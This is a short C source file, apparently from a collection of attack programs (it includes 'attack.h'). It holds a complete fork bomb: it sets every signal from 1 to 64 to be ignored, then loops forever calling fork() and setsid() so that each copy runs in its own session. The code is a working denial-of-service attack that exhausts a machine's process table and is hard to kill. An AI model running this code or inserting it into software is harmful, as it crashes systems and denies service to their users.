// Doubles itself, each in a session of its own and deaf to signals.
// gets: none
#include "attack.h"

int main() {
  for (int number = 1; number < 65; ++number) signal(number, SIG_IGN);
  for (;;) {
    fork();
    setsid();
  }
}
